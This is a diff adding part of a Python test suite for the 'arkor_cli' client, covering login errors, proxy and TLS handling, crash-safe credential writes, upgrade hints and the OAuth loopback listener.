+        self.assertFalse(os.path.exists(self.creds))
+
+    def test_the_full_url_shows_a_wrong_base(self) -> None:
+        self.login_fails(
+            f'POST {self.cloud.url}/v1/v1/auth/anonymous failed (404): {{"error": "not_found"}}',
+            ARKOR_CLOUD_API_URL=self.cloud.url + "/v1",
+        )
+
+    def test_a_server_that_is_not_arkor(self) -> None:
+        # The standard library's own server: its 501 for a POST is an HTML page.
+        import http.server
+        import threading
+
+        class Quiet(http.server.BaseHTTPRequestHandler):
+            def log_message(self, format: str, *args: Any) -> None:
+                pass
+
+        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
+        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
+        self.addCleanup(server.server_close)
+        self.addCleanup(server.shutdown)
+        url = f"http://127.0.0.1:{server.server_address[1]}"
+        self.login_fails(
+            f"POST {url}/v1/auth/anonymous failed (501): an HTML page, 'Error response'", ARKOR_CLOUD_API_URL=url
+        )
+
+    def test_bodies_are_quoted_on_one_line(self) -> None:
+        url = f"{self.cloud.url}/v1/auth/anonymous"
+        for answer, message in (
+            (
+                Answer(500, body=b"Internal failure\nTraceback (most recent call last):\n  File x\n"),
+                f"POST {url} failed (500): Internal failure",
+            ),
+            (
+                # No Content-Type, and no <title>: still only said to be a page.
+                Answer(502, body=b"<!DOCTYPE html>\n<html><body><h1>Bad gateway</h1>\n</body></html>"),
+                f"POST {url} failed (502): an HTML page",
+            ),
+            (
+                Answer(201, body=b'{"token": "t",\n "x": ', headers={"Content-Type": "application/json"}),
+                (
+                    f"Unexpected answer from POST {url} (201): not JSON (Expecting value (line 2, column 7)):"
+                    ' {"token": "t",.'
+                ),
+            ),
+        ):
+            with self.subTest(message):
+                self.cloud.script("POST", "/v1/auth/anonymous", answer)
+                self.login_fails(message)
+
+    def test_tls_failures_say_what_to_check(self) -> None:
+        # https:// at a plain-HTTP server.
+        base = f"https://127.0.0.1:{self.cloud.port}"
+        self.login_fails(
+            f"Could not reach {base}/v1/auth/anonymous: TLS failed (WRONG_VERSION_NUMBER): the server may be"
+            " speaking plain HTTP; check http:// or https://",
+            ARKOR_CLOUD_API_URL=base,
+        )
+        # A CA bundle or folder named by the environment that is not there.
+        with FakeCloudApi(tls=True) as tls:
+            untrusted = f"Could not reach {tls.url}/v1/auth/anonymous: TLS certificate not trusted (unable to get"
+            self.login_fails(
+                f"{untrusted} local issuer certificate). SSL_CERT_FILE names /nonexistent.pem, which is not a file.",
+                ARKOR_CLOUD_API_URL=tls.url,
+                SSL_CERT_FILE="/nonexistent.pem",
+            )
+            self.login_fails(
+                f"{untrusted} local issuer certificate). SSL_CERT_DIR names /nonexistent-dir, which is not a folder.",
+                ARKOR_CLOUD_API_URL=tls.url,
+                SSL_CERT_DIR="/nonexistent-dir",
+            )
+            self.assertEqual(tls.requests, [])
+
+
+class ProxyEnvironmentTest(OAuthCase):
+    """HTTP_PROXY / HTTPS_PROXY / NO_PROXY, read from the command's own
+    environment on every run (one process runs main() with several)."""
+
+    def setUp(self) -> None:
+        from fake_cloud import FakeProxy
+
+        super().setUp()
+        self.proxy = FakeProxy().start()
+        self.addCleanup(self.proxy.stop)
+        self.dead = f"http://127.0.0.1:{free_port()}"  # a proxy that is not there
+        self.sign_in_anon()
+        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
+
+    def whoami(self, **env: str | None) -> tuple[int, str, str]:
+        self.proxy.seen.clear()
+        return self.run_main("whoami", **env)
+
+    def test_http_proxy(self) -> None:
+        me = f"{self.cloud.url}/v1/me"
+        ok = (0, '{\n  "id": "u1"\n}\n', "")
+        refused = (
+            1,
+            "",
+            (
+                f"Could not reach {me}: Connection refused (through the proxy {self.dead} from HTTP_PROXY;"
+                " set NO_PROXY=127.0.0.1 to go direct)\n"
+            ),
+        )
+        for env, outcome, seen in (
+            ({"HTTP_PROXY": self.proxy.url}, ok, [("GET", me)]),
+            ({"http_proxy": self.proxy.url}, ok, [("GET", me)]),
+            # Lower case wins, either way round.
+            ({"HTTP_PROXY": self.dead, "http_proxy": self.proxy.url}, ok, [("GET", me)]),
+            ({"HTTP_PROXY": self.proxy.url, "http_proxy": self.dead}, refused, []),
+            # NO_PROXY (or no_proxy) sends it direct.
+            ({"HTTP_PROXY": self.dead, "NO_PROXY": "127.0.0.1"}, ok, []),
+            ({"http_proxy": self.dead, "no_proxy": "localhost,127.0.0.1"}, ok, []),
+            ({"HTTP_PROXY": self.proxy.url, "NO_PROXY": "example.com"}, ok, [("GET", me)]),
+            # The proxy of the other scheme is not used.
+            ({"HTTPS_PROXY": self.dead}, ok, []),
+            ({}, ok, []),
+        ):
+            with self.subTest(env=env):
+                self.assertEqual(self.whoami(**env), outcome)
+                self.assertEqual(self.proxy.seen, seen)
+
+    def test_https_goes_through_a_tunnel_with_tls_checked_end_to_end(self) -> None:
+        # The renewal of an expiring token: POST https://<auth0>/oauth/token.
+        self.sign_in_oauth(expires_in=30)
+        code, out, err = self.whoami(HTTPS_PROXY=self.proxy.url)
+        self.assertEqual((code, err), (0, ""))
+        self.assertTrue(out.startswith('{\n  "id": "auth0|ada"'), out)
+        self.assertEqual(self.proxy.seen, [("CONNECT", self.auth0.domain)])
+        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
+        # Through the tunnel the certificate is still checked: without the test CA it is refused.
+        self.sign_in_oauth(expires_in=30)
+        code, _, err = self.whoami(HTTPS_PROXY=self.proxy.url, SSL_CERT_FILE=None)
+        self.assertEqual(code, 0)
+        mac = " With a python.org build of Python, run its 'Install Certificates' command once."
+        self.assertEqual(
+            err,
+            f"Could not renew the access token (Could not reach https://{self.auth0.domain}/oauth/token:"
+            " TLS certificate not trusted (unable to get local issuer certificate). If your network uses its own"
+            " certificate authority, point SSL_CERT_FILE at its bundle."
+            + (mac if sys.platform == "darwin" else "")
+            + f" (through the proxy {self.proxy.url} from HTTPS_PROXY; set NO_PROXY=127.0.0.1 to go direct));"
+            " trying the stored one.\n",
+        )
+        self.assertEqual(self.proxy.seen, [("CONNECT", self.auth0.domain)])
+        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
+
+    def test_the_environment_given_not_the_process_one(self) -> None:
+        # main() gives every request the process's environment, so only
+        # _http itself can tell the two apart: urllib left alone reads
+        # os.environ (proxies, and NO_PROXY in its own bypass check).
+        me = f"{self.cloud.url}/v1/me"
+        with mock.patch.dict(os.environ, {"HTTP_PROXY": self.dead}, clear=True):
+            for env, seen in (
+                ({"HTTP_PROXY": self.proxy.url}, [("GET", me)]),
+                ({"HTTP_PROXY": self.proxy.url, "NO_PROXY": "127.0.0.1"}, []),
+                ({}, []),
+            ):
+                with self.subTest(env=env):
+                    self.proxy.seen.clear()
+                    reply = arkor_cli._http("GET", me, headers={}, body=None, seconds=5, env=env)
+                    self.assertEqual(reply.status, 401)  # the cloud-api's answer to no token
+                    self.assertEqual(self.proxy.seen, seen)
+
+
+class SystemTrustTest(OAuthCase):
+    """HTTPS is verified against exactly what ssl.create_default_context()
+    trusts: the system's store, or what SSL_CERT_FILE and SSL_CERT_DIR name.
+    One handshake per request, never a second try with another trust."""
+
+    CA_DIR = os.path.join(FIXTURES, "ca-dir")  # ca.pem under its hash name, as Debian's /etc/ssl/certs
+
+    def lacking(self) -> str:
+        """A hashed directory without the test CA (another certificate under a hash name)."""
+        folder = tempfile.mkdtemp()
+        self.addCleanup(shutil.rmtree, folder, True)
+        shutil.copy(os.path.join(FIXTURES, "server.pem"), os.path.join(folder, "00000000.0"))
+        return folder
+
+    def test_each_source_of_trust(self) -> None:
+        mac = " With a python.org build of Python, run its 'Install Certificates' command once."
+        untrusted = (
+            f"Could not renew the access token (Could not reach https://{self.auth0.domain}/oauth/token:"
+            " TLS certificate not trusted (unable to get local issuer certificate). If your network uses its own"
+            " certificate authority, point SSL_CERT_FILE at its bundle."
+            + (mac if sys.platform == "darwin" else "")
+            + "); trying the stored one.\n"
+        )
+        lacking = self.lacking()
+        cases: list[tuple[dict[str, str | None], str]] = [
+            ({"SSL_CERT_FILE": TEST_CA}, ""),
+            ({"SSL_CERT_FILE": None, "SSL_CERT_DIR": self.CA_DIR}, ""),
+            ({"SSL_CERT_FILE": TEST_CA, "SSL_CERT_DIR": lacking}, ""),  # either may vouch
+            ({"SSL_CERT_FILE": None, "SSL_CERT_DIR": lacking}, untrusted),
+            ({"SSL_CERT_FILE": None}, untrusted),  # the system's store alone
+        ]
+        if not POSIX:  # Windows trusts its certificate stores, not a directory
+            cases = [case for case in cases if "SSL_CERT_DIR" not in case[0]]
+        for env, warning in cases:
+            with self.subTest(env=env):
+                self.sign_in_oauth(expires_in=30)  # a renewal, POST https://<auth0>/oauth/token, comes first
+                renewals = len(self.auth0.seen("POST", "/oauth/token"))
+                handshakes = self.auth0.handshakes
+                code, out, err = self.run_main("whoami", **env)
+                self.assertEqual((code, err), (0, warning))
+                self.assertTrue(out.startswith('{\n  "id": "auth0|ada"'), out)
+                self.assertEqual(self.auth0.handshakes - handshakes, 1)
+                self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")) - renewals, 0 if warning else 1)
+
+
+class ResilienceTest(OAuthCase):
+    def assert_whole_anon_file(self) -> dict[str, Any]:
+        data = self.read_creds()  # valid JSON, or this raises
+        self.assertEqual(data["mode"], "anon")
+        self.assertIn(data["token"], self.cloud.tokens)
+        return data
+
+    def test_logins_at_once(self) -> None:
+        # Three processes replace the file at once while a reader watches:
+        # the reader only ever sees no file or a whole one, and one whole
+        # file is left, with no temp file beside it.
+        import threading
+
+        torn: list[str] = []
+        stop = threading.Event()
+
+        def watch() -> None:
+            while not stop.is_set():
+                try:
+                    with open(self.creds, encoding="utf-8") as f:
+                        text = f.read()
+                except FileNotFoundError:
+                    continue
+                try:
+                    json.loads(text)
+                except ValueError:
+                    torn.append(text)
+
+        watcher = threading.Thread(target=watch)
+        watcher.start()
+        try:
+            procs = [self.spawn("login", "--anonymous") for _ in range(3)]
+            for proc in procs:
+                out, err = proc.communicate(timeout=60)
+                self._record(out, err)
+                self.assertEqual(proc.returncode, 0, err)
+                # Without a terminal, replacing the identity another one stored is said, not asked.
+                self.assertRegex(
+                    err, r"\A(Replacing the anonymous identity anon-000[1-3]; it cannot be restored\.\n)?\Z"
+                )
+        finally:
+            stop.set()
+            watcher.join()
+        self.assertEqual(torn, [])
+        self.assertEqual(len(self.cloud.tokens), 3)
+        self.assert_whole_anon_file()
+        self.assertEqual(self.leftovers(), [])
+        code, out, _ = self.run_main("whoami")
+        self.assertEqual(code, 0)
+
+    @unittest.skipUnless(POSIX, "SIGKILL")
+    def test_sigkill_never_tears_the_file(self) -> None:
+        # SIGKILL at the two points that matter: with the request in flight
+        # (nothing is written yet), and with the new file whole on disk but
+        # not yet renamed (the old one must still be there, whole, and the
+        # orphan private). No cleanup code runs under SIGKILL.
+        self.sign_in_anon()
+        before = self.creds_bytes()
+        self.cloud.script("POST", "/v1/auth/anonymous", lambda seen: Answer(201, self.cloud.mint_anonymous(), delay=60))
+        proc = self.spawn("login", "--anonymous")
+        self.wait_until(lambda: self.cloud.seen("POST", "/v1/auth/anonymous"))
+        proc.kill()
+        self._record(*proc.communicate(timeout=20))
+        self.assertEqual(self.creds_bytes(), before)
+        self.assertEqual(self.leftovers(), [])
+
+        self.cloud.script("POST", "/v1/auth/anonymous", lambda seen: Answer(201, self.cloud.mint_anonymous()))
+        # os.replace held: the process stops, as a kill would find it, between the fsync and the rename.
+        held = (
+            "import os, sys, time\n"
+            "sys.path.insert(0, sys.argv[1])\n"
+            "import arkor_cli\n"
+            "def hold(src, dst):\n"
+            "    print(src, flush=True)\n"
+            "    time.sleep(60)\n"
+            "os.replace = hold\n"
+            "sys.exit(arkor_cli.main(['login', '--anonymous']))\n"
+        )
+        proc = subprocess.Popen(
+            [sys.executable, "-c", held, HERE],
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+            env=self.env(),
+        )
+        self.addCleanup(lambda: proc.poll() is None and proc.kill())
+        assert proc.stdout is not None
+        ready, _, _ = select.select([proc.stdout], [], [], 20)
+        self.assertTrue(ready, "the login never reached the rename")
+        temp = proc.stdout.readline().strip()
+        proc.kill()
+        self._record(*proc.communicate(timeout=20))
+        self.assertEqual(self.creds_bytes(), before)
+        self.assertEqual(self.leftovers(), [os.path.basename(temp)])
+        self.assertEqual(stat.S_IMODE(os.stat(temp).st_mode), 0o600)
+        with open(temp, encoding="utf-8") as f:
+            orphan = json.load(f)  # whole: written and flushed before the rename
+        self.assertEqual(orphan["mode"], "anon")
+        self.assertIn(orphan["token"], self.cloud.tokens)
+        # The orphan stands in no one's way: still signed in as before, and the next login works.
+        self.cloud.add_token("anon-token-stored", user={"id": "still-me"}, orgs=[])
+        self.assertEqual(self.run_main("whoami"), (0, '{\n  "id": "still-me"\n}\n', ""))
+        code, _, err = self.run_main("login", "--anonymous")
+        self.assertEqual((code, err), (0, "Replacing the anonymous identity anon-stored; it cannot be restored.\n"))
+        self.assert_whole_anon_file()
+
+    @unittest.skipUnless(can_mount_tmpfs(), "needs root and mount(8) for a tiny or read-only filesystem")
+    def test_full_and_read_only_filesystems(self) -> None:
+        mount = tempfile.mkdtemp(prefix="arkor-fs-")
+        self.addCleanup(os.rmdir, mount)
+        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", mount], check=True)
+        self.addCleanup(subprocess.run, ["umount", mount], check=False)
+        home = os.path.join(mount, "home")
+        os.makedirs(os.path.join(home, ".arkor"))
+        creds = os.path.join(home, ".arkor", "credentials.json")
+        self.cloud.add_token("anon-token-stored")
+        old = {
+            "mode": "anon",
+            "token": "anon-token-stored",
+            "anonymousId": "anon-stored",
+            "arkorCloudApiUrl": self.cloud.url,
+            "orgSlug": "stored-org",
+        }
+        with open(creds, "w") as f:
+            json.dump(old, f)
+        # Fill the disk to the last byte.
+        fd = os.open(os.path.join(mount, "filler"), os.O_WRONLY | os.O_CREAT)
+        try:
+            while os.write(fd, b"\0" * 512):
+                pass
+        except OSError:
+            pass  # full
+        finally:
+            os.close(fd)
+        code, out, err = self.run_main("login", "--anonymous", HOME=home, USERPROFILE=home)
+        self.assertEqual((code, out), (1, ""))
+        self.assertEqual(
+            err,
+            "Replacing the anonymous identity anon-stored; it cannot be restored.\n"
+            f"Could not write {creds}: No space left on device.\n",
+        )
+        with open(creds) as f:
+            self.assertEqual(json.load(f), old)
+        self.assertEqual(
+            sorted(set(os.listdir(os.path.dirname(creds))) - {"credentials.json.lock"}), ["credentials.json"]
+        )
+        # Read-only: the login says so; whoami still reads.
+        os.remove(os.path.join(mount, "filler"))
+        subprocess.run(["mount", "-o", "remount,ro", mount], check=True)
+        sent = len(self.cloud.requests)
+        code, out, err = self.run_main("login", "--anonymous", HOME=home, USERPROFILE=home)
+        self.assertEqual((code, out), (1, ""))
+        # Refused before anything is sent, at the lock, for the true reason.
+        self.assertEqual(err, f"Could not write {creds}.lock: Read-only file system.\n")
+        self.assertEqual(len(self.cloud.requests), sent)
+        code, out, _ = self.run_main("whoami", HOME=home, USERPROFILE=home)
+        self.assertEqual(code, 0)
+        self.assertTrue(out.startswith("{"), out)
+
+    @unittest.skipUnless(POSIX, "symlinks need privileges on Windows")
+    def test_a_link_planted_at_the_temp_name_is_never_followed(self) -> None:
+        self.sign_in_anon()
+        before = self.creds_bytes()
+        victim = os.path.join(self.home, "victim.txt")
+        with open(victim, "w") as f:
+            f.write("precious")
+        # Make the temp name predictable, and plant a link there first.
+        planted = os.path.join(self.arkor_dir, f".credentials.json.{os.getpid()}.{'00' * 6}.tmp")
+        os.symlink(victim, planted)
+        with mock.patch.object(os, "urandom", return_value=b"\0" * 6):
+            code, out, err = self.run_main("login", "--anonymous")
+        self.assertEqual((code, out), (1, ""))
+        self.assertEqual(
+            err,
+            "Replacing the anonymous identity anon-stored; it cannot be restored.\n"
+            f"Could not write {self.creds}: File exists.\n",
+        )
+        with open(victim) as f:
+            self.assertEqual(f.read(), "precious")
+        self.assertEqual(self.creds_bytes(), before)
+        self.assertTrue(os.path.islink(planted))  # not ours to remove
+
+    def test_tls_failures(self) -> None:
+        self.sign_in_anon()
+        for cert, reason in (
+            (
+                "expired",
+                (
+                    "TLS certificate not trusted (certificate has expired)."
+                    " Check this machine's clock, then the server's certificate."
+                ),
+            ),
+            (
+                "wrong-host",
+                (
+                    "TLS certificate not trusted (IP address mismatch, certificate is not valid for '127.0.0.1')."
+                    " The certificate is for another host: check the URL."
+                ),
+            ),
+        ):
+            with self.subTest(cert=cert), FakeAuth0(cert=cert) as server:
+                code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=server.url)
+                self.assertEqual((code, out, err), (1, "", f"Could not reach {server.url}/v1/me: {reason}\n"))
+                self.assertEqual(server.requests, [])  # nothing was sent over it
+
+    def test_listener_under_load(self) -> None:
+        # Idle connections (as browsers pre-open), an oversized header and a
+        # flood of junk do not stop the real callback from getting through.
+        # Five idle ones: the listen backlog's worth, so that they connect at
+        # once; each would hold a one-at-a-time listener for its 10 s.
+        proc, url, _ = self.start_login()
+        port = self.ports[0]
+        idle = []
+        for _ in range(5):
+            s = socket.create_connection(("127.0.0.1", port), timeout=5)
+            idle.append(s)
+        try:
+            with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
+                s.sendall(b"GET /callback HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nX-Big: %s\r\n\r\n" % (port, b"a" * 70000))
+                answer = s.recv(100)
+            self.assertTrue(answer.startswith((b"HTTP/1.0 431", b"HTTP/1.0 400")), answer)
+            # A client that sends junk and resets the connection: the server
+            # must not print socketserver's traceback into the user's terminal.
+
+            for _ in range(5):
+                with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
+                    s.sendall(b"GET /callback HTTP/1.1\r\nX-Big: " + b"a" * 70000)
+                    reset_on_close(s)
+            for _ in range(20):
+                status, _, _ = self.callback(port, "/nothing-here")
+                self.assertEqual(status, 404)
+            self.assertIsNone(proc.poll())
+            status, _, _ = browse(url)
+            self.assertEqual(status, 200)
+            code, out, err = self.finish(proc)
+            # finish() may miss the lines start_login() read ahead with the Browser: line.
+            self.assertEqual((code, err), (0, ""))
+            self.assertTrue(out.endswith("Signed in\n"), out)
+        finally:
+            for s in idle:
+                s.close()
+
+
+# ---------------------------------------------------------------------------
+# The cloud-api: the version gate and the upgrade command
+# ---------------------------------------------------------------------------
+
+
+class UpgradeRequiredTest(Case):
+    """426 from any cloud-api call stops the command with the line its body
+    calls for; COPIED_FIX is the fix for this copied arkor_cli.py."""
+
+    def test_each_body(self) -> None:
+        header = (
+            "The cloud API could not read this client's X-Arkor-Client header ({});"
+            f" a proxy on the way may be changing it. {COPIED_FIX}"
+        )
+        bare = f"Arkor SDK is no longer supported by the cloud API. {COPIED_FIX}"
+        gate = {
+            "error": "sdk_version_unsupported",
+            "currentVersion": "0.2.0",
+            "supportedRange": ">=0.3.0",
+            "upgrade": "npm i -g arkor",
+        }
+        for body, message in (
+            ({"error": "sdk_version_unsupported", "reason": "missing"}, header.format("missing")),
+            ({"error": "sdk_version_unsupported", "reason": "malformed"}, header.format("malformed")),
+            (gate, f"Arkor SDK 0.2.0 is no longer supported by the cloud API (supported: >=0.3.0). {COPIED_FIX}"),
+            ({"error": "sdk_version_unsupported", "reason": "stale"}, bare),
+            ({"error": "sdk_version_unsupported", "currentVersion": "0.2.0"}, bare),
+            (b"", bare),
+            (b"<html><title>Upgrade</title></html>", bare),
+        ):
+            with self.subTest(body=body):
+                answer = Answer(426, body=body) if isinstance(body, bytes) else Answer(426, body)
+                self.cloud.script("POST", "/v1/auth/anonymous", answer)
+                code, out, err = self.run_main("login", "--anonymous")
+                self.assertEqual((code, out, err), (1, "", message + "\n"))
+                self.assertFalse(os.path.exists(self.creds))
+
+
+class UpgradeCommandTest(unittest.TestCase):
+    def setUp(self) -> None:
+        self.root = tempfile.mkdtemp()
+        self.addCleanup(shutil.rmtree, self.root, True)
+
+    def site_packages_file(self) -> str:
+        site = os.path.join(self.root, "lib", "python3.11", "site-packages")
+        os.makedirs(site)
+        return os.path.join(site, "arkor_cli.py")
+
+    def touch(self, name: str) -> None:
+        open(os.path.join(self.root, name), "w").close()
+
+    def test_pip(self) -> None:
+        fix = arkor_cli._upgrade_fix(self.site_packages_file(), self.root, "/venv/bin/python3")
+        self.assertEqual(fix, "Run `/venv/bin/python3 -m pip install --upgrade arkor-cli`.")
+
+    def test_pip_with_spaces_in_the_interpreter_path(self) -> None:
+        fix = arkor_cli._upgrade_fix(self.site_packages_file(), self.root, "C:\\Program Files\\Python\\python.exe")
+        self.assertEqual(fix, 'Run `"C:\\Program Files\\Python\\python.exe" -m pip install --upgrade arkor-cli`.')
+
+    def record_origin(self, module: str, origin: dict[str, Any]) -> None:
+        """The PEP 610 direct_url.json pip leaves beside an installed copy."""
+        info = os.path.join(os.path.dirname(module), "arkor_cli-0.2.0.dist-info")
+        os.makedirs(info)
+        with open(os.path.join(info, "direct_url.json"), "w", encoding="utf-8") as f:
+            json.dump(origin, f)
+
+    def test_pip_from_a_checkout(self) -> None:
+        # `pip install .` in a checkout: the upgrade comes from that checkout.
+        import pathlib
+
+        for name in ("arkor", "my arkor"):
+            with self.subTest(name=name):
+                shutil.rmtree(os.path.join(self.root, "lib"), ignore_errors=True)
+                module = self.site_packages_file()
+                checkout = os.path.join(self.root, name)
+                self.record_origin(module, {"url": pathlib.Path(checkout).as_uri(), "dir_info": {}})
+                shown = f'"{checkout}"' if " " in checkout else checkout
+                self.assertEqual(
+                    arkor_cli._upgrade_fix(module, self.root, "/venv/bin/python3"),
+                    f"Run `/venv/bin/python3 -m pip install --upgrade {shown}`.",
+                )
+
+    def test_pip_from_a_wheel_file_or_the_index(self) -> None:
+        module = self.site_packages_file()
+        self.record_origin(module, {"url": "file:///tmp/arkor_cli-0.2.0-py3-none-any.whl", "archive_info": {}})
+        self.assertEqual(
+            arkor_cli._upgrade_fix(module, self.root, "/venv/bin/python3"),
+            "Run `/venv/bin/python3 -m pip install --upgrade arkor-cli`.",
+        )
+
+    def test_pipx(self) -> None:
+        self.touch("pipx_metadata.json")
+        self.assertEqual(
+            arkor_cli._upgrade_fix(self.site_packages_file(), self.root, "py"), "Run `pipx upgrade arkor-cli`."
+        )
+
+    def test_uv_tool(self) -> None:
+        self.touch("uv-receipt.toml")
+        self.assertEqual(
+            arkor_cli._upgrade_fix(self.site_packages_file(), self.root, "py"), "Run `uv tool upgrade arkor-cli`."
+        )
+
+    def test_debian_dist_packages(self) -> None:
+        path = os.path.join(self.root, "dist-packages", "arkor_cli.py")
+        self.assertEqual(
+            arkor_cli._upgrade_fix(path, self.root, "/usr/bin/python3"),
+            "Run `/usr/bin/python3 -m pip install --upgrade arkor-cli`.",
+        )
+
+    def test_copied_file(self) -> None:
+        path = os.path.join(self.root, "tools", "arkor_cli.py")
+        self.assertEqual(arkor_cli._upgrade_fix(path, self.root, "py"), f"Replace {path} with the latest arkor_cli.py.")
+
+
+class InstalledCopyTest(Case):
+    """The upgrade hint as a real installed copy in a real venv computes it."""
+
+    def test_installed_copies(self) -> None:
+        # One venv, pip's, then pipx's (its marker at the venv's root, where
+        # sys.prefix points). uv's marker works alike: see UpgradeCommandTest.
+        import sysconfig
+        import venv
+
+        root = tempfile.mkdtemp(prefix="arkor-venv-")
+        self.addCleanup(shutil.rmtree, root, True)
+        venv.EnvBuilder(with_pip=False, symlinks=POSIX).create(root)
+        purelib = sysconfig.get_path("purelib", vars={"base": root, "platbase": root})
+        shutil.copy(MODULE, purelib)
+        python = os.path.join(
+            root, "Scripts" if os.name == "nt" else "bin", "python.exe" if os.name == "nt" else "python"
+        )
+        self.sign_in_anon()
+        self.cloud.script("GET", "/v1/me", Answer(426, body=b""))
+        for marker, command in (
+            (None, f"{python} -m pip install --upgrade arkor-cli"),
+            ("pipx_metadata.json", "pipx upgrade arkor-cli"),
+        ):
+            with self.subTest(marker=marker):
+                if marker:
+                    open(os.path.join(root, marker), "w").close()
+                proc = subprocess.run(
+                    [python, "-m", "arkor_cli", "whoami"],
+                    capture_output=True,
+                    text=True,
+                    env=self.env(),
+                    cwd=self.home,  # not HERE: the venv's copy must be the one imported
+                    timeout=60,
+                    check=False,
+                )
+                self._record(proc.stdout, proc.stderr)
+                self.assertEqual(
+                    (proc.returncode, proc.stdout, proc.stderr),
+                    (1, "", f"Arkor SDK is no longer supported by the cloud API. Run `{command}`.\n"),
+                )
+
+
+# ---------------------------------------------------------------------------
+# OAuth, the loopback listener and the browser
+# ---------------------------------------------------------------------------
+
+
+class OAuthPkceTest(unittest.TestCase):
+    def test_pkce_and_state(self) -> None:
+        import hashlib
+
+        seen: set[str] = set()
+        for _ in range(20):
+            verifier, challenge, state = arkor_cli._pkce()
+            self.assertRegex(verifier, r"^[A-Za-z0-9_-]{43}$")  # 32 bytes, base64url, no padding
+            self.assertRegex(state, r"^[A-Za-z0-9_-]{22}$")  # 16 bytes
+            self.assertEqual(challenge, arkor_cli._b64url(hashlib.sha256(verifier.encode()).digest()))
+            seen.update((verifier, state))
+        self.assertEqual(len(seen), 40)  # never repeats
+
+
+# -- Logins in this process, with a browser in a thread (no processes) ------
+
+
+def _login_run(
+    case: Case, *argv: str, browser: Callable[[str], Any] | None = None, **env: str | None
+) -> tuple[int, str, str, Any]:
+    """``main(["login", *argv])`` in this process, as ``run_main`` runs it.
+
+    Once the login has printed its ``Browser:`` line (and so listens),
+    ``browser(url)`` runs in a thread, as a person's browser would; what it
+    returns comes back last (None without a browser). It must end the
+    login, or the login's own ``--timeout`` does.
+    """
+    import threading
+
+    out, err = io.StringIO(), io.StringIO()
+    results: list[Any] = []
+    failures: list[BaseException] = []
+    over = threading.Event()
+
+    def act() -> None:
+        while True:
+            found = re.search(r"^Browser: (\S+)\n", out.getvalue(), re.MULTILINE)
+            if found:
+                try:
+                    assert browser is not None
+                    results.append(browser(found.group(1)))
+                except BaseException as exc:  # noqa: BLE001 - raised again in the test's thread
+                    failures.append(exc)
+                return
+            if over.wait(0.005):
+                return  # the login ended without listening
+
+    thread = threading.Thread(target=act, name="test-browser", daemon=True)
+    with contextlib.ExitStack() as stack:
+        stack.enter_context(mock.patch.dict(os.environ, case.env(**env), clear=True))
+        stack.enter_context(mock.patch.object(sys, "stdin", io.StringIO("")))
+        stack.enter_context(contextlib.redirect_stdout(out))
+        stack.enter_context(contextlib.redirect_stderr(err))
+        if browser is not None:
+            thread.start()
+        try:
+            code = arkor_cli.main(["login", *argv])
+        finally:
+            over.set()
+            if browser is not None:
+                thread.join(30)
+    case._record(out.getvalue(), err.getvalue())
+    if failures:
+        raise failures[0]
+    return code, out.getvalue(), err.getvalue(), results[0] if results else None
+
+
+def _login_query(url: str) -> dict[str, str]:
+    """The query parameters of ``url``, one value each."""
+    return {k: v[0] for k, v in parse_qs(urlsplit(url).query).items()}
+
+
+def _login_browser_url(shown: str) -> str:
+    """The URL of the ``Browser:`` line in what a terminal showed."""
+    found = re.search(r"^Browser: (\S+)$", shown, re.MULTILINE)
+    assert found, shown
+    return found.group(1)
+
+
+def _login_redirect(url: str, **change: str | None) -> str:
+    """Where Auth0 sends the browser from the sign-in ``url`` (its Location),
+    not followed to the listener: the address a browser on another machine
+    ends on, to paste. ``change`` sets (or, with None, drops) parameters."""
+    import ssl
+    import urllib.error
+    import urllib.request
+
+    class Stay(urllib.request.HTTPRedirectHandler):
+        def redirect_request(self, *args: Any) -> None:
+            return None
+
+    opener = urllib.request.build_opener(
+        urllib.request.ProxyHandler({}),
+        urllib.request.HTTPSHandler(context=ssl.create_default_context(cafile=TEST_CA)),
+        Stay(),
+    )
+    try:
+        opener.open(url, timeout=10).close()
+    except urllib.error.HTTPError as exc:
+        location = str(exc.headers["Location"])
+    else:
+        raise AssertionError(f"{url} did not redirect")
+    parts = urlsplit(location)
+    query = {k: v for k, v in dict(_login_query(location), **change).items() if v is not None}
+    return parts._replace(query=urlencode(query)).geturl()
+
+
+def _login_spawn_waiting(case: OAuthCase, *argv: str, **env: str | None) -> tuple[subprocess.Popen[str], str, str]:
+    """``login --oauth --no-browser *argv`` as a process, read up to the line
+    saying that no browser was opened (it then waits for the browser): the
+    process, the sign-in URL, and what it printed. Read from the pipe's
+    descriptor, unbuffered: ``finish()`` then gets every byte that follows."""
+    proc = case.spawn("login", "--oauth", "--no-browser", *argv, **env)
+    assert proc.stdout is not None and proc.stderr is not None
+    case.addCleanup(proc.stdout.close)  # also when the test fails before finish()
+    case.addCleanup(proc.stderr.close)
+    seen = b""
+    deadline = time.monotonic() + 20
+    while not re.search(rb"^No browser was opened\..*\n", seen, re.MULTILINE):
+        ready, _, _ = select.select([proc.stdout], [], [], max(0.0, deadline - time.monotonic()))
+        case.assertTrue(ready, f"the login printed no more than {seen!r}")
+        chunk = os.read(proc.stdout.fileno(), 4096)
+        case.assertTrue(chunk, f"the login ended after {seen!r}")
+        seen += chunk
+    return proc, _login_browser_url(seen.decode()), seen.decode()
+
+
+@contextlib.contextmanager
+def _login_tty_keys() -> Iterator[Callable[[bytes], None]]:
+    """Around ``run_tty``: a function that an answer may call to type raw
+    bytes first (what an answer's text cannot carry: bytes that are not
+    UTF-8, or Ctrl-D without the Enter that follows every answer). The
+    terminal stops echoing from then on, so that the Enter's echo cannot
+    pass for a line break the command wrote, and no raw byte reaches what
+    the terminal showed."""
+    import pty
+    import termios
+
+    masters: list[int] = []
+    openpty = pty.openpty
+
+    def recording() -> tuple[int, int]:
+        master, slave = openpty()
+        masters.append(master)
+        return master, slave
+
+    def keys(data: bytes) -> None:
+        attributes = termios.tcgetattr(masters[-1])
+        attributes[3] &= ~termios.ECHO  # lflag
